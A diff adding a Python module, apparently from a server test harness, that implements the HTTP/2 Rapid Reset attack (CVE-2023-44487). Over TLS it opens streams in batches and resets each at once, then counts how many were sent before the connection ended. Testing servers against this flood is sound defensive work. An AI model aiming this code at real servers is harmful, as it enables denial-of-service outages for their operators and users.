@@ -1,0 +1,82 @@
+"""A peer that opens HTTP/2 streams and resets each at once (CVE-2023-44487).
+
+Under TLS, with a certificate of its own. It reads what it is sent, and goes on
+until all streams are sent or the connection ends.
+"""
+
+import select
+import socket
+import ssl
+import struct
+
+from harness import raw_http2
+from harness import wait
+
+_CANCEL = struct.pack(">I", 8)
+_BATCH = 500
+
+
+def send(address, certificate, path, streams, with_message):
+    """Returns how many streams were sent before the connection ended.
+
+    `with_message`: each has a whole empty request, so that a call without
+    streams comes to its handler too."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    context.load_cert_chain(certificate.cert, certificate.key)
+    context.set_alpn_protocols(["h2"])
+    host, port = address.rsplit(":", 1)
+    headers = raw_http2.headers("https", path)
+    try:
+        plain = socket.create_connection((host, int(port)),
+                                         timeout=wait.PATIENCE_S)
+        with context.wrap_socket(plain) as connection:
+            connection.sendall(raw_http2.PREFACE +
+                               raw_http2.frame(raw_http2.SETTINGS, 0, 0))
+            connection.setblocking(False)
+            for begin in range(0, streams, _BATCH):
+                batch = b"".join(
+                    _stream(2 * i + 1, headers, with_message)
+                    for i in range(begin, min(begin + _BATCH, streams)))
+                if not _exchange(connection, batch):
+                    return begin
+    except OSError:
+        return 0
+    return streams
+
+
+def _stream(number, headers, with_message):
+    frames = raw_http2.frame(raw_http2.HEADERS, raw_http2.END_HEADERS, number,
+                             headers)
+    if with_message:
+        frames += raw_http2.frame(raw_http2.DATA, raw_http2.END_STREAM, number,
+                                  raw_http2.message(b""))
+    return frames + raw_http2.frame(raw_http2.RST_STREAM, 0, number, _CANCEL)
+
+
+def _exchange(connection, data):
+    """Sends `data`, and reads meanwhile. False: the connection has ended."""
+    while data:
+        readable, writable, _ = select.select([connection], [connection], [],
+                                              wait.PATIENCE_S)
+        if not readable and not writable:
+            return False
+        try:
+            if readable and not _drain(connection):
+                return False
+            data = data[connection.send(data):]
+        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
+            pass
+        except OSError:
+            return False
+    return True
+
+
+def _drain(connection):
+    try:
+        while True:
+            if not connection.recv(1 << 16):
+                return False
+    except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
+        return True
